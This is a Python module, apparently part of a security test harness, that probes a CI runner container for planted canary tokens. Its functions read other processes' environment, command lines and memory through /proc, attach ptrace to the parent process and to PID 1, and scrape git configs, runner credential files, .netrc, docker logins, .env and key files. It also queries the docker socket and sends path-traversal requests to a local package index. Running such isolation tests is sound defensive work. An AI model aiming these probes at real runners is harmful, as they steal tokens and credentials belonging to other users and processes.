"""Reading what a thief comes for: tokens, credentials, other processes."""

import ctypes
import glob
import os
import re
import socket
import urllib.error
import urllib.request

from hostile.places import local_index_ports

CANARY = re.compile(rb"canary-[a-z0-9-]+")


def _seek(paths, most=1 << 20):
    """Canaries in any file of `paths`; raises the last refusal where there is none."""
    refused, loot = None, set()
    for path in paths:
        try:
            with open(path, "rb") as file:
                loot |= set(CANARY.findall(file.read(most)))
        except OSError as error:
            refused = error
    if not loot and refused:
        raise refused
    return sorted(each.decode() for each in loot)


def _others():
    mine = str(os.getpid())
    return [path for path in glob.glob("/proc/[0-9]*") if path != f"/proc/{mine}"]


def own_environment(stage):
    """Tokens in its own environment."""
    return sorted({each.decode() for each in CANARY.findall(repr(dict(os.environ)).encode())})


def environment_of_others(stage):
    """/proc/PID/environ of every process: the token's, the checker's, the launcher's."""
    return _seek(f"{path}/environ" for path in _others())


def memory_of_others(stage):
    """/proc/PID/mem and process_vm_readv of every process that is not its own user's."""
    found, refused = [], None
    for path in _others():
        try:
            if os.stat(path).st_uid == os.getuid() and os.getuid() != 0:
                continue
            with open(f"{path}/maps") as maps, open(f"{path}/mem", "rb", 0) as memory:
                for line in maps:
                    start, end = (int(part, 16) for part in line.split()[0].split("-"))
                    if "rw" in line and ("[heap]" in line or "[stack]" in line):
                        memory.seek(start)
                        found += CANARY.findall(memory.read(min(end - start, 1 << 22)))
        except OSError as error:
            refused = error
    if not found and refused:
        raise refused
    return found and found[0].decode()


def command_lines(stage):
    """/proc/PID/cmdline of every process, which any user may read."""
    return _seek(f"{path}/cmdline" for path in _others())


def doors_of_others(stage):
    """/proc/PID/root, cwd and fd of every process: ways around closed folders."""
    paths = [
        inside
        for path in _others()
        for inside in glob.glob(f"{path}/root/github/runner_temp/*")
        + glob.glob(f"{path}/cwd/.git/config")
        + glob.glob(f"{path}/fd/*")
    ]
    paths = [path for path in paths if os.path.isfile(path)]
    return _seek(paths)


def trace_the_parent(stage):
    """ptrace of its parent and of the first process."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long] * 4
    for pid in (1, os.getppid()):
        if libc.ptrace(16, pid, 0, 0) == 0:
            os.waitpid(pid, 0x40000000)  # __WALL: until it has stopped; it would stay so if we let go of it before
            libc.ptrace(17, pid, 0, 0)
            if pid == 1 or os.getuid() != os.stat(f"/proc/{pid}").st_uid:
                return f"traced process {pid}"
    raise OSError(ctypes.get_errno(), "ptrace")


def git_config(stage):
    """.git/config of the workspace, where checkout up to its fifth version leaves the token; and of its own copy."""
    upwards = [os.getcwd()]
    while upwards[-1] != "/":
        upwards.append(os.path.dirname(upwards[-1]))
    return _seek(
        [
            "/github/workspace/.git/config",
            *(f for f in (f"{path}/.git/config" for path in upwards) if os.path.exists(f)),
        ]
    )


def ignored_credentials(stage):
    """Credentials beside the checkout that git does not track: of a cloud, of npm, an environment file, a key."""
    return _seek(("gha-creds-0.json", ".env", ".npmrc", "deploy.pem"))


def checkout_credentials(stage):
    """The file in which checkout keeps the token from its sixth version on."""
    return _seek(
        glob.glob("/github/runner_temp/git-credentials-*.config") or ["/github/runner_temp/git-credentials-1.config"]
    )


def event_and_home(stage):
    """The event's file and the home of the runner's user, with a netrc and a docker login."""
    return _seek(["/github/workflow/event.json", "/github/home/.netrc", "/github/home/.docker/config.json"])


def docker_socket(stage):
    """Asks the docker engine, which would start any container as root."""
    with socket.socket(socket.AF_UNIX) as engine:
        engine.connect("/var/run/docker.sock")
        engine.sendall(b"GET /version HTTP/1.0\r\n\r\n")
        return engine.recv(200).decode(errors="replace")


def index_credentials(stage):
    """Asks the local index for what it knows: wrong paths, other hosts, the headers of its answers."""
    loot = set()
    for port in local_index_ports():
        for path in (
            "/",
            "/live/simple/",
            "/live/simple/victim/",
            "/live/victim/json",
            "/../../../etc/passwd",
            "/files/x/..%2f..%2fpasswd",
            "/live/simple/%2e%2e/",
            "/live/simple/no0such/",
        ):
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{port}{path}", timeout=5) as answer:
                    said = answer.read() + bytes(answer.headers)
            except urllib.error.HTTPError as error:
                said = error.read() + bytes(error.headers) + error.reason.encode()
            loot |= set(CANARY.findall(said)) | set(re.findall(rb"root:x:0", said))
    return sorted(each.decode() for each in loot)
